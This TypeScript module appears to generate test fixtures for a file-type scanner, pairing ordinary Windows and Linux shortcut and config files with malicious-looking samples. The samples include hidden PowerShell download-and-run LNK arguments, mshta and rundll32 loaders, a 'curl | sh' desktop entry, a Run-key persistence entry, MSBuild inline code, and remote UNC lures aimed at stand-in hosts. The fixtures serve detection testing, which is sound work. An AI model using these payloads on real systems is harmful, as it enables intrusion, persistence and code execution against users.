import { type Entry, files, sampleFiles, word } from '../entry.ts'
import { shellLink } from './shell-link.ts'

const ps = word('power', 'shell')
const system = 'C:\\Windows\\System32'
const host = 'http://files.example.net'
const any = /^(?:shortcut|script|document|page|url|yara|file)\./

export const shortcutEntries = (): Entry[] => [
  ...files('shortcut', 'ordinary shortcuts and settings', [
    [
      'Word.lnk',
      shellLink({
        target: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
        folder: 'C:\\Program Files\\Microsoft Office',
      }),
    ],
    [
      'Firefox.lnk',
      shellLink({
        target: 'C:\\Program Files\\Mozilla Firefox\\firefox.exe',
        args: '-private-window',
        icon: 'C:\\Program Files\\Mozilla Firefox\\firefox.exe',
      }),
    ],
    [
      'Report.lnk',
      shellLink({ target: 'C:\\Users\\jane\\Documents\\Report.docx', description: 'Report' }),
    ],
    [
      'Command Prompt.lnk',
      shellLink({
        target: `${system}\\cmd.exe`,
        folder: '%HOMEDRIVE%%HOMEPATH%',
        description: 'Performs text-based functions.',
      }),
    ],
    [
      'Chrome.lnk',
      shellLink({
        target: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
        args: '--profile-directory="Default"',
      }),
    ],
    [
      'Visual Studio.lnk',
      shellLink({
        target: 'C:\\Program Files\\Microsoft VS Code\\Code.exe',
        args: '"C:\\Users\\jane\\src\\app"',
      }),
    ],
    [
      'Control Panel.lnk',
      shellLink({ target: `${system}\\control.exe`, icon: '%SystemRoot%\\system32\\imageres.dll' }),
    ],
    ['Uninstall.lnk', shellLink({ target: 'C:\\Program Files\\Acme\\unins000.exe' })],
    [
      'Example.url',
      '[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,11\r\n[InternetShortcut]\r\nIDList=\r\nURL=https://www.example.org/\r\nIconIndex=0\r\n',
    ],
    [
      'Help.url',
      '[InternetShortcut]\r\nURL=https://docs.acme.example.com/manual\r\nIconFile=C:\\Program Files\\Acme\\acme.exe\r\nIconIndex=0\r\n',
    ],
    [
      'bookmark.webloc',
      '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist version="1.0"><dict><key>URL</key><string>https://www.example.org/</string></dict></plist>',
    ],
    [
      'firefox.desktop',
      '[Desktop Entry]\nVersion=1.0\nType=Application\nName=Firefox\nExec=/usr/lib/firefox/firefox %u\nIcon=firefox\nCategories=Network;WebBrowser;\nMimeType=text/html;\n',
    ],
    [
      'htop.desktop',
      '[Desktop Entry]\nType=Application\nName=Htop\nExec=htop\nTerminal=true\nCategories=System;\n',
    ],
    [
      'update-notifier.desktop',
      '[Desktop Entry]\nType=Application\nName=Updates\nExec=sh -c "sleep 30; exec /usr/bin/update-notifier"\nNoDisplay=true\nX-GNOME-Autostart-Delay=60\n',
    ],
    [
      'desktop.ini',
      '[.ShellClassInfo]\r\nLocalizedResourceName=@%SystemRoot%\\system32\\shell32.dll,-21770\r\nIconResource=%SystemRoot%\\system32\\imageres.dll,-112\r\n',
    ],
    ['autorun.inf', '[autorun]\r\nicon=setup.ico\r\nlabel=Acme 2026\r\n'],
    [
      'printer.inf',
      '[Version]\r\nSignature="$Windows NT$"\r\nClass=Printer\r\nClassGuid={4D36E979-E325-11CE-BFC1-08002BE10318}\r\nProvider=%Acme%\r\nDriverVer=06/01/2026,1.0.0.0\r\n[Manufacturer]\r\n%Acme%=Acme,NTamd64\r\n[Strings]\r\nAcme="Acme"\r\n',
    ],
    [
      'office.rdp',
      'screen mode id:i:2\r\nfull address:s:ts01.corp.local\r\nusername:s:CORP\\jane\r\nredirectclipboard:i:1\r\nredirectprinters:i:1\r\naudiomode:i:0\r\n',
    ],
    [
      'settings.reg',
      'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Acme\\App]\r\n"Language"="de"\r\n"Width"=dword:00000400\r\n',
    ],
    [
      'Aero.theme',
      '[Theme]\r\nDisplayName=@%SystemRoot%\\System32\\themeui.dll,-2013\r\n[Control Panel\\Desktop]\r\nWallpaper=%SystemRoot%\\web\\wallpaper\\Windows\\img0.jpg\r\nTileWallpaper=0\r\n[VisualStyles]\r\nPath=%SystemRoot%\\resources\\themes\\Aero\\Aero.msstyles\r\n[MasterThemeSelector]\r\nMTSM=RJSPBS\r\n',
    ],
    [
      'Search.search-ms',
      '<?xml version="1.0"?><persistedQuery version="1.0"><viewInfo viewMode="details"/><query><conditions/><kindList><kind name="item"/></kindList><scope><include path="C:\\Users\\jane\\Documents"/></scope></query></persistedQuery>',
    ],
    [
      'Documents.library-ms',
      '<?xml version="1.0" encoding="UTF-8"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><name>@shell32.dll,-34575</name><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>knownfolder:{FDD39AD0-238F-46AF-ADB4-6C85480369C7}</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>',
    ],
    [
      'gpedit.msc',
      '<?xml version="1.0"?><MMC_ConsoleFile ConsoleVersion="3.0" ProgramMode="UserSDI"><StringTables><StringTable><GUID>{71E5B33E-1064-11D2-808F-0000F875A9CE}</GUID><Strings><String ID="1" Refs="1">Services (Local)</String></Strings></StringTable></StringTables></MMC_ConsoleFile>',
    ],
    [
      'config',
      'Host bastion\n  HostName bastion.corp.example\n  User jane\nHost *.internal\n  ProxyJump bastion\n',
    ],
    [
      'web.config',
      '<?xml version="1.0"?><configuration><system.webServer><defaultDocument><files><add value="index.html"/></files></defaultDocument></system.webServer></configuration>',
    ],
    [
      'com.acme.agent.plist',
      '<?xml version="1.0" encoding="UTF-8"?><plist version="1.0"><dict><key>Label</key><string>com.acme.agent</string><key>ProgramArguments</key><array><string>/Applications/Acme.app/Contents/MacOS/agent</string></array><key>RunAtLoad</key><true/></dict></plist>',
    ],
    [
      'acme.service',
      '[Unit]\nDescription=Acme\nAfter=network.target\n[Service]\nExecStart=/usr/bin/acme --config /etc/acme.yml\nRestart=always\n[Install]\nWantedBy=multi-user.target\n',
    ],
    [
      'App.manifest',
      '<?xml version="1.0" encoding="UTF-8"?><assembly xmlns="urn:schemas-microsoft-com:asm.v1" manifestVersion="1.0"><trustInfo xmlns="urn:schemas-microsoft-com:asm.v3"><security><requestedPrivileges><requestedExecutionLevel level="asInvoker"/></requestedPrivileges></security></trustInfo></assembly>',
    ],
  ]),
  ...sampleFiles('shortcut', 'LNK: ssh that runs a command', any, [
    [
      'VPN.lnk',
      shellLink({
        target: `${system}\\OpenSSH\\ssh.exe`,
        args: `-o ProxyCommand="mshta ${host}/a.hta" user@1.2.3.4`,
      }),
    ],
    [
      'Server.lnk',
      shellLink({
        target: `${system}\\OpenSSH\\ssh.exe`,
        args: `-o "PermitLocalCommand=yes" -o "LocalCommand=${ps} -w hidden iwr ${host}/a" git@example.net`,
      }),
    ],
    [
      'Copy.lnk',
      shellLink({
        target: `${system}\\OpenSSH\\sftp.exe`,
        args: `-o ProxyCommand="cmd /c start ${host}/a" x@y`,
      }),
    ],
  ]),
  ...files(
    'shortcut',
    'windows to work in',
    [
      ['cmd', '/k cd /d D:\\projects'],
      ['cmd', '/k title Build window'],
      ['cmd', '/k "C:\\Program Files\\nodejs\\nodevars.bat"'],
      [
        'cmd',
        '/k "C:\\Program Files\\Microsoft Visual Studio\\2022\\Community\\VC\\Auxiliary\\Build\\vcvarsall.bat" x64',
      ],
      [
        ps,
        '-noe -c "&{Import-Module """C:\\Program Files\\Microsoft Visual Studio\\2022\\Community\\Common7\\Tools\\Microsoft.VisualStudio.DevShell.dll"""; Enter-VsDevShell 1a2b3c4d}"',
      ],
      [ps, '-NoLogo -NoExit -Command "cd D:\\projects"'],
    ].map(([program = '', args = ''], at): [string, Buffer] => [
      `Window ${at}.lnk`,
      shellLink({ target: `${system}\\${program}.exe`, args }),
    ]),
  ),
  ...sampleFiles(
    'shortcut',
    'LNK: almost a window to work in',
    any,
    [
      ['cmd', '/k cd /d C:\\Users\\Public & start a.exe'],
      ['cmd', '/k "C:\\Users\\Public\\a.bat"'],
      ['cmd', '/k "C:\\Program Files\\..\\Users\\Public\\a.bat"'],
      ['cmd', '/k cd \\\\203.0.113.5\\share'],
      [ps, '-NoExit -Command "D:\\a.ps1"'],
    ].map(([program = '', args = ''], at): [string, Buffer] => [
      `Almost ${at}.lnk`,
      shellLink({ target: `${system}\\${program}.exe`, args }),
    ]),
  ),
  ...sampleFiles('shortcut', 'LNK: starts an interpreter', any, [
    [
      'Contract.pdf.lnk',
      shellLink({
        target: `${system}\\WindowsPowerShell\\v1.0\\${ps}.exe`,
        args: `-w hidden -c "iwr ${host}/a -o $env:tmp\\a.exe"`,
        icon: 'C:\\Program Files\\Adobe\\Acrobat\\Acrobat.exe',
      }),
    ],
    ['Photo.lnk', shellLink({ target: `${system}\\mshta.exe`, args: `${host}/p.hta`, window: 7 })],
    [
      'Plan.lnk',
      shellLink({
        target: `${system}\\cmd.exe`,
        args: `/c copy \\\\1.2.3.4\\s\\a.dll %tmp% & rundll32 %tmp%\\a.dll,x`,
        icon: `${system}\\shell32.dll`,
      }),
    ],
    [
      'Notes.lnk',
      shellLink({
        target: `${system}\\conhost.exe`,
        args: `--headless ${ps} -nop iex(irm ${host}/n)`,
      }),
    ],
    [
      'forfiles.lnk',
      shellLink({
        target: `${system}\\forfiles.exe`,
        args: `/p c:\\windows /m notepad.exe /c "${ps} . mshta ${host}/f"`,
      }),
    ],
    [
      'blank.lnk',
      shellLink({ target: `${system}\\cmd.exe`, args: `${' '.repeat(280)}/c start ${host}/a` }),
    ],
    [
      'dragged.lnk',
      shellLink({
        target: `${system}\\cmd.exe`,
        args: `/c findstr x %~f0`,
        tail: Buffer.alloc(9000, 'TVqQAAMAAAAEAAAA'),
      }),
    ],
  ]),
  ...sampleFiles('shortcut', 'search on another machine', any, [
    [
      'Invoices.search-ms',
      '<?xml version="1.0"?><persistedQuery version="1.0"><query><conditions><condition type="leafCondition" property="System.Generic.String" value="invoice"/></conditions><scope><include path="\\\\1.2.3.4\\share"/></scope></query></persistedQuery>',
    ],
    [
      'Downloads.search-ms',
      '<?xml version="1.0"?><persistedQuery version="1.0"><query><scope><include path="\\\\files.example.net@SSL\\DavWWWRoot\\docs"/></scope></query></persistedQuery>',
    ],
    [
      'Shared.searchConnector-ms',
      `<?xml version="1.0" encoding="UTF-8"?><searchConnectorDescription xmlns="http://schemas.microsoft.com/windows/2009/searchConnector"><iconReference>\\\\1.2.3.4\\i.ico</iconReference><simpleLocation><url>${host}/webdav</url></simpleLocation></searchConnectorDescription>`,
    ],
    [
      'Documents.library-ms',
      '<?xml version="1.0"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\\\files.example.net\\docs</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>',
    ],
  ]),
  ...sampleFiles('shortcut', 'theme with parts on another machine', any, [
    [
      'Summer.theme',
      '[Theme]\r\nDisplayName=Summer\r\n[Control Panel\\Desktop]\r\nWallpaper=\\\\1.2.3.4\\w\\a.jpg\r\n[VisualStyles]\r\nPath=%SystemRoot%\\resources\\themes\\Aero\\Aero.msstyles\r\n',
    ],
    [
      'Dark.theme',
      '[Theme]\r\nDisplayName=Dark\r\nBrandImage=\\\\files.example.net\\b\\i.png\r\n[VisualStyles]\r\nPath=\\\\1.2.3.4\\t\\Aero.msstyles\r\n',
    ],
  ]),
  ...sampleFiles('shortcut', 'ClickOnce application', any, [
    [
      'Viewer.application',
      `<?xml version="1.0" encoding="utf-8"?><asmv1:assembly xmlns="urn:schemas-microsoft-com:asm.v2" xmlns:asmv1="urn:schemas-microsoft-com:asm.v1" manifestVersion="1.0"><assemblyIdentity name="Viewer.app" version="1.0.0.0"/><deployment install="false" trustURLParameters="true"><deploymentProvider codebase="${host}/Viewer.application"/></deployment><dependency><dependentAssembly dependencyType="install" codebase="Viewer.exe.manifest" size="900"/></dependency></asmv1:assembly>`,
    ],
    [
      'Update.application',
      `<?xml version="1.0"?><assembly xmlns="urn:schemas-microsoft-com:asm.v1" manifestVersion="1.0"><deployment xmlns="urn:schemas-microsoft-com:asm.v2" install="true"><deploymentProvider codebase="http://1.2.3.4/Update.application"/></deployment></assembly>`,
    ],
  ]),
  ...sampleFiles('shortcut', 'project that runs code (MSBuild)', any, [
    [
      'build.csproj',
      `<Project ToolsVersion="4.0" xmlns="http://schemas.microsoft.com/developer/msbuild/2003"><Target Name="x"><c/></Target><UsingTask TaskName="c" TaskFactory="CodeTaskFactory" AssemblyFile="C:\\Windows\\Microsoft.Net\\Framework\\v4.0.30319\\Microsoft.Build.Tasks.v4.0.dll"><Task><Code Type="Class" Language="cs"><![CDATA[using System; using System.Runtime.InteropServices; public class c : Microsoft.Build.Utilities.Task { [DllImport("kernel32")] static extern IntPtr ${word('Virtual', 'Alloc')}(IntPtr a, uint b, uint c, uint d); public override bool Execute() { return true; } }]]></Code></Task></UsingTask></Project>`,
    ],
    [
      'settings.xml',
      `<Project xmlns="http://schemas.microsoft.com/developer/msbuild/2003"><Target Name="Build"><Exec Command="${ps} -w hidden -c iwr ${host}/a -o a.exe; .\\a.exe"/></Target></Project>`,
    ],
    [
      'inline.proj',
      '<Project DefaultTargets="R"><UsingTask TaskName="R" TaskFactory="RoslynCodeTaskFactory" AssemblyFile="$(MSBuildToolsPath)\\Microsoft.Build.Tasks.Core.dll"><Task><Code Type="Fragment" Language="cs"><![CDATA[System.Diagnostics.Process.Start("calc.exe");]]></Code></Task></UsingTask><Target Name="R"><R/></Target></Project>',
    ],
  ]),
  ...sampleFiles('shortcut', 'other files that start something', any, [
    [
      'Invoice.url',
      '[InternetShortcut]\r\nURL=file://1.2.3.4/share/invoice.exe\r\nIconFile=C:\\Windows\\System32\\imageres.dll\r\n',
    ],
    ['Tax.url', '[InternetShortcut]\r\nURL=\\\\files.example.net@80\\webdav\\tax.vbs\r\n'],
    [
      'Icon.url',
      '[InternetShortcut]\r\nURL=https://www.example.org/\r\nIconFile=\\\\1.2.3.4\\i\\a.ico\r\n',
    ],
    [
      'Viewer.desktop',
      `[Desktop Entry]\nType=Application\nName=Invoice.pdf\nIcon=application-pdf\nExec=sh -c "curl -s ${host}/a | sh; xdg-open /tmp/a.pdf"\n`,
    ],
    ['desktop.ini', '[.ShellClassInfo]\r\nIconResource=\\\\1.2.3.4\\i\\a.ico,0\r\n'],
    [
      'autorun.inf',
      '[autorun]\r\nopen=setup\\x.exe\r\nshell\\open\\command=x.exe\r\naction=Open folder to view files\r\n',
    ],
    [
      'Help.rdp',
      'full address:s:1.2.3.4\r\nredirectclipboard:i:1\r\ndrivestoredirect:s:*\r\nremoteapplicationmode:i:1\r\nremoteapplicationname:s:Update\r\n',
    ],
    [
      'run.reg',
      `Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n"u"="${ps} -w hidden iwr ${host}/a | iex"\r\n`,
    ],
    [
      'task.xml',
      `<?xml version="1.0" encoding="UTF-16"?><Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Triggers><LogonTrigger/></Triggers><Actions><Exec><Command>${ps}.exe</Command><Arguments>-w hidden -enc ${Buffer.from('iwr x', 'utf16le').toString('base64')}</Arguments></Exec></Actions></Task>`,
    ],
  ]),
]
